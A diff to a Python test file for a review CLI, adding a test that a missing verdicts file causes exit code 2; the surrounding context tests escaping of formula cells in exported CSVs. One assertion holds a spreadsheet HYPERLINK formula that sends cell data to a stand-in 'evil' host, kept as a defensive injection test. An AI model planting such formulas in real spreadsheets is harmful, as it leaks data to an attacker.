@@ -55,3 +55,12 @@ def test_rv_formula_cells_of_review_csv_are_neutralised(toy_env) -> None:  # noq
     cells = [c for row in csv.reader(sheet.open(encoding="utf-8")) for c in row]
     assert not [c for c in cells if c[:1] in ("=", "+", "@")]
     assert '\'=HYPERLINK("http://evil/?"&A1,"x")' in cells and "'@SUM(A1:A2)" in cells
+
+
+def test_cli_review_a_named_verdicts_file_that_does_not_exist(toy_env) -> None:  # noqa: F811
+    """cli.review: `--reviews nosuch.csv` printed "0 accepted ... not reviewed", exit 0."""
+    tmp = toy_env["tmp"]
+    code, out = run(
+        "review", "-d", "toy", "--reviews", str(tmp / "nosuch.csv"), "--out", str(tmp / "s")
+    )
+    assert code == 2 and "verdicts file not found" in out and not (tmp / "s").exists(), out
